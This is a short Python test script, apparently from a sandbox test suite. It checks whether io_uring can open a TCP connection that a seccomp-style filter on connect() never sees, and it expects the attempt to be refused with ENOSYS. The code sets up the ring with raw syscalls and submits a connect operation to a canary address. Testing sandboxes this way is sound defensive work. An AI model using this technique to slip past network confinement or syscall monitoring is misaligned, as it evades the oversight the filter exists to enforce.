"""io_uring makes system calls that no filter sees.

attacks: the trap on connect
effect: the canary outside accepts a connection
refused: ENOSYS
topic: other doors to TCP, io_uring
"""

import ctypes
import socket

from kit import address, attempt, call, libc, sockaddr, syscall

SETUP, ENTER = 425, 426
OP_CONNECT, GET_EVENTS = 16, 1
SQ_RING, SQES = 0, 0x10000000
READ_WRITE, SHARED = 3, 1


class Params(ctypes.Structure):
    _fields_ = [("entries", ctypes.c_uint32 * 2), ("rest", ctypes.c_uint32 * 8),
                ("sq", ctypes.c_uint32 * 10), ("cq", ctypes.c_uint32 * 10)]


def map_ring(fd, size, offset):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    start = libc.mmap(None, size, READ_WRITE, SHARED, fd, offset)
    return (ctypes.c_uint8 * size).from_address(start)


with attempt(), socket.socket() as s:
    params = Params()
    ring = syscall(SETUP, 4, ctypes.byref(params))
    _, tail, mask, _, _, _, array = params.sq[:7]
    queue = map_ring(ring, 4096, SQ_RING)
    entries = map_ring(ring, 4096, SQES)
    name = ctypes.create_string_buffer(sockaddr(*address()), 16)
    entry = (ctypes.c_uint64 * 8).from_buffer(entries)
    entry[0] = OP_CONNECT | s.fileno() << 32
    entry[1] = 16  # off: the length of the address
    entry[2] = ctypes.addressof(name)
    ctypes.c_uint32.from_buffer(queue, array).value = 0
    ctypes.c_uint32.from_buffer(queue, tail).value += 1
    call(libc.syscall, ctypes.c_long(ENTER), ring, 1, 1, GET_EVENTS, None, 0)
